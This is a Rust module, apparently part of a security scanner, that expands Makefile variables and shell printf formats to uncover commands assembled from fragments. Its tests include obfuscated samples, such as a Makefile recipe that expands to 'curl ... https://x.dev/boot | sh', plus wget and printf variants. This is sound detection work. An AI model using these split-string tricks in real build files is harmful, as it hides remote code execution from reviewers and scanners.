//! Commands assembled before they run (misses28): a Makefile's recipe
//! line as Make runs it, its variables and `$(strip …)`/`$(subst …)`
//! expanded (`FETCH = cu$(strip r)l`, `$(FETCH) $(U) $(RUN)`), and a
//! shell `printf` whose output is written to a file or piped on, its
//! format filled with its arguments (`printf '%s%s %s | s%s\n' "$a" …`).
//! The rows read a line as written; each rebuilt line is read again at
//! its own line (`engine::expansions_put_back`), the shell's variables
//! put back there by `reveal::normalize_with`.

use std::collections::HashMap;
use std::sync::LazyLock;

use regex::Regex;

use crate::lines::Lines;

/// How deep a variable's value may name further variables.
const DEPTH: usize = 8;

/// Whether `path` is a Makefile, whose recipes Make expands.
pub fn is_makefile(path: &str) -> bool {
    let name = path.rsplit('/').next().unwrap_or(path);
    name.eq_ignore_ascii_case("makefile")
        || name.eq_ignore_ascii_case("gnumakefile")
        || crate::naming::ends_with_ignoring_case(name, ".mk")
}

/// A Make variable's definition: `NAME = value`, `:=`, `::=`, `?=`, `+=`.
static DEFINITION: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"^(?:(?:export|override)\s+)?([A-Za-z_][\w.-]*)\s*(\+=|\?=|:{0,3}=)\s*(.*)$")
        .expect("make definition")
});

/// The recipe lines of a Makefile that expand to other text, with that
/// text: (0-based line, expanded line).
pub fn make_recipes(lines: &Lines) -> Vec<(usize, String)> {
    let mut vars: HashMap<&str, String> = HashMap::new();
    for line in lines.all().filter(|l| !l.starts_with('\t')) {
        let Some(c) = DEFINITION.captures(line.trim_end()) else {
            continue;
        };
        let (name, value) = (c.get(1).map_or("", |m| m.as_str()), &c[3]);
        match &c[2] {
            "+=" => {
                let grown = vars.entry(name).or_default();
                grown.push(' ');
                grown.push_str(value);
            }
            "?=" => {
                vars.entry(name).or_insert_with(|| value.to_owned());
            }
            _ => {
                vars.insert(name, value.to_owned());
            }
        }
    }
    if vars.is_empty() {
        return Vec::new();
    }
    lines
        .all()
        .enumerate()
        .filter(|(_, l)| l.starts_with('\t') && l.contains('$'))
        .filter_map(|(at, l)| {
            let expanded = expand(l, &vars, 0);
            (expanded != l).then_some((at, expanded))
        })
        .collect()
}

/// `text` with the references and functions Make would expand expanded;
/// any other (`$(shell …)`, `$@`, an unknown name) left as written.
fn expand(text: &str, vars: &HashMap<&str, String>, depth: usize) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = rest.find('$') {
        out.push_str(&rest[..at]);
        let after = &rest[at + 1..];
        let close = match after.as_bytes().first() {
            Some(b'(') => ')',
            Some(b'{') => '}',
            Some(b'$') => {
                // `$$` is a shell's `$`.
                out.push('$');
                rest = &after[1..];
                continue;
            }
            _ => {
                out.push('$');
                rest = after;
                continue;
            }
        };
        let Some(end) = closing(after, close) else {
            out.push_str(&rest[at..]);
            return out;
        };
        let inner = &after[1..end];
        match reference(inner, vars, depth) {
            Some(value) => out.push_str(&value),
            None => {
                out.push('$');
                out.push_str(&after[..=end]);
            }
        }
        rest = &after[end + 1..];
    }
    out.push_str(rest);
    out
}

/// Where the reference opened at `after[0]` closes, brackets nested.
fn closing(after: &str, close: char) -> Option<usize> {
    let open = after.chars().next()?;
    let mut level = 0usize;
    for (at, c) in after.char_indices() {
        if c == open {
            level += 1;
        } else if c == close {
            level -= 1;
            if level == 0 {
                return Some(at);
            }
        }
    }
    None
}

/// The value of `$(inner)`: a variable the file defines, or `strip` or
/// `subst` of expanded arguments; `None` for anything else.
fn reference(inner: &str, vars: &HashMap<&str, String>, depth: usize) -> Option<String> {
    if depth >= DEPTH {
        return None;
    }
    let deeper = |text: &str| expand(text, vars, depth + 1);
    if let Some(value) = vars.get(inner.trim()) {
        return Some(deeper(value));
    }
    let (function, arguments) = inner.split_once([' ', '\t'])?;
    match function {
        "strip" => Some(
            deeper(arguments)
                .split_whitespace()
                .collect::<Vec<_>>()
                .join(" "),
        ),
        "subst" => {
            let mut parts = arguments.splitn(3, ',');
            let (from, to, text) = (parts.next()?, parts.next()?, parts.next()?);
            let from = deeper(from);
            let text = deeper(text);
            Some(match from.is_empty() {
                true => text,
                false => text.replace(&from, &deeper(to)),
            })
        }
        _ => None,
    }
}

/// `printf 'FORMAT' ARGS…` written to a file or piped on: the format with
/// its `%s` filled by the arguments as written (a quoted literal without
/// its quotes, a variable left for `reveal` to put back).
static PRINTF: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"\bprintf\s+(?:--\s+)?(?:'([^'\n]*)'|"([^"\n$`]*)")((?:[ \t]+(?:"[^"\n]*"|'[^'\n]*'|[^\s;|&><'"]+))+)\s*(?:>|\|)"#)
        .expect("printf regex")
});
static ARGUMENT: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r#""([^"\n]*)"|'([^'\n]*)'|([^\s'"]+)"#).expect("printf argument"));

/// The lines whose `printf` writes or pipes a filled format, with the
/// line as printed: (0-based line, printed text).
pub fn printf_filled(lines: &Lines) -> Vec<(usize, String)> {
    lines
        .all()
        .enumerate()
        .filter(|(_, l)| l.contains("printf"))
        .filter_map(|(at, l)| {
            let c = PRINTF.captures(l)?;
            let format = c.get(1).or(c.get(2))?.as_str();
            let arguments: Vec<&str> = ARGUMENT
                .captures_iter(&c[3])
                .filter_map(|a| a.get(1).or(a.get(2)).or(a.get(3)).map(|m| m.as_str()))
                .collect();
            fill(format, &arguments).map(|printed| (at, printed))
        })
        .collect()
}

/// `format` with each `%s`, `%b` or `%d` given the next argument, `%%` a
/// `%` and `\n` a line's end (read as `;`); `None` when it takes none.
fn fill(format: &str, arguments: &[&str]) -> Option<String> {
    let mut out = String::new();
    let mut next = arguments.iter();
    let mut filled = false;
    let mut chars = format.chars().peekable();
    while let Some(c) = chars.next() {
        match (c, chars.peek()) {
            ('%', Some('%')) => {
                chars.next();
                out.push('%');
            }
            ('%', Some('s' | 'b' | 'd')) => {
                chars.next();
                out.push_str(next.next().copied().unwrap_or(""));
                filled = true;
            }
            ('\\', Some('n')) => {
                chars.next();
                out.push_str("; ");
            }
            _ => out.push(c),
        }
    }
    filled.then(|| out.trim_end_matches([';', ' ']).to_owned())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_recipe_reads_as_make_expands_it() {
        let text = "T = tp\nU = ht$(T)s://x.dev/boot\nFETCH = cu$(strip r)l -fsS\nRUN = | s$(strip h)\nall:\n\t@$(FETCH) $(U) $(RUN) $$HOME $@\n";
        let lines = Lines::new(text);
        let expanded = make_recipes(&lines);
        assert_eq!(
            expanded,
            [(
                5,
                "\t@curl -fsS https://x.dev/boot | sh $HOME $@".to_owned()
            )]
        );
    }

    #[test]
    fn subst_and_unknown_names_and_unchanged_recipes() {
        let text = "P = wXet\nCC ?= cc\nbuild:\n\t$(subst X,g,$(P)) -q $(URL)\n\techo done\n\t$(CC) -o $@ $(shell ls)\n";
        let lines = Lines::new(text);
        let expanded = make_recipes(&lines);
        assert_eq!(expanded[0], (3, "\twget -q $(URL)".to_owned()));
        assert_eq!(expanded[1], (5, "\tcc -o $@ $(shell ls)".to_owned()));
        assert_eq!(expanded.len(), 2);
    }

    #[test]
    fn a_written_printf_is_filled_and_a_shown_one_is_not() {
        let text = "printf '%s%s %s | s%s\\n' \"$a\" \"$b\" \"$c\" \"h\" > \"$H\"\nprintf '%s\\n' \"$x\"\nprintf 'done\\n' > log\n";
        let lines = Lines::new(text);
        assert_eq!(printf_filled(&lines), [(0, "$a$b $c | sh".to_owned())]);
    }
}
